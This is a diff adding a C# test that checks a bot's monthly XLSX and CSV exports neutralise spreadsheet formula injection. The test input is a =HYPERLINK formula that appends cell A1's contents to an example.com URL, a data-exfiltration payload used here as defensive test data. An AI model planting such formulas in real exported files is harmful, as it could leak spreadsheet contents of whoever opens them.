@@ -1,5 +1,10 @@
+using System.Text;
 using Assembly.Bot.Tests.Support;
 using Assembly.Conversations.Statistics;
+using Assembly.Conversations.Text;
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Spreadsheet;
+using Member = Assembly.Storage.Entities.Member;
 using Assembly.FakeBotApi;
 using Assembly.Storage.Entities;
 using Microsoft.EntityFrameworkCore;
@@ -51,5 +56,50 @@ public sealed class ExportTests
 
         await Eventually.StoredAsync(bot, async db =>
             await db.Outbox.CountAsync(o => o.ChatId == Admin && o.Status == OutboxStatus.Sent && db.OutboxFiles.Any(f => f.OutboxMessageId == o.Id)) == 4);
+    }
+
+    [Fact]
+    public async Task A_description_that_begins_like_a_formula_is_text_in_both_files_and_the_phone_keeps_its_zero()
+    {
+        const string formula = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"جزئیات\")";
+        using var database = new TestDatabase();
+        await using var telegram = await FakeBotApiServer.StartAsync();
+        await using var bot = await BotTestHost.StartAsync(database, telegram, settings: new Dictionary<string, string?> { ["Access:Admins:0"] = "telegram:1" });
+
+        var created = TimeProvider.System.GetUtcNow().UtcDateTime.AddMinutes(-5);
+        await using (var db = bot.Db())
+        {
+            var member = new Member { Name = "مریم نطنزی", Phone = "+989121110000", County = "نطنز", CreatedAt = created };
+            db.Members.Add(member);
+            await db.SaveChangesAsync();
+            db.Reports.Add(new Report { Code = "RJ-1001", MemberId = member.Id, Secretariat = "rajaei", County = "نطنز", Description = formula + "\u0001\u000B\uFFFE", CreatedAt = created, UpdatedAt = created });
+            await db.SaveChangesAsync();
+        }
+
+        var month = SolarMonth.Of(created, TimeZoneInfo.FindSystemTimeZoneById("Asia/Tehran"));
+        telegram.EnqueueText(Admin, $"/export {month.Year}/{month.Month}");
+        await telegram.WaitUntilAsync(t => t.Uploads.Count >= 2, Wait);
+
+        var (xlsx, csv) = (telegram.Uploads[0], telegram.Uploads[1]);
+        Assert.EndsWith(".xlsx", xlsx.FileName, StringComparison.Ordinal);
+        var description = Array.IndexOf(Texts.ExportColumns, "شرح مسئله");
+        var phone = Array.IndexOf(Texts.ExportColumns, "شماره تماس");
+        using (var document = SpreadsheetDocument.Open(new MemoryStream(xlsx.Bytes), false))
+        {
+            var workbook = document.WorkbookPart!;
+            var sheet = (WorksheetPart)workbook.GetPartById(workbook.Workbook.Sheets!.Elements<Sheet>().Single().Id!.Value!);
+            var cells = sheet.Worksheet.GetFirstChild<SheetData>()!.Elements<Row>().ElementAt(1).Elements<Cell>().ToList();
+            Assert.Equal(CellValues.InlineString, cells[description].DataType!.Value);
+            Assert.Null(cells[description].CellFormula);
+            Assert.Equal(formula, cells[description].InlineString!.InnerText);
+            Assert.Equal(CellValues.InlineString, cells[phone].DataType!.Value);
+            Assert.Equal("09121110000", cells[phone].InlineString!.InnerText);
+        }
+
+        Assert.EndsWith(".csv", csv.FileName, StringComparison.Ordinal);
+        var line = Encoding.UTF8.GetString(csv.Bytes).Split("\r\n")[1];
+        Assert.StartsWith("RJ-1001,", line);
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://example.com/?q=\"\"&A1,\"\"جزئیات\"\")\",", line);
+        Assert.Contains(",مریم نطنزی,۰۹۱۲۱۱۱۰۰۰۰,", line);
     }
 }
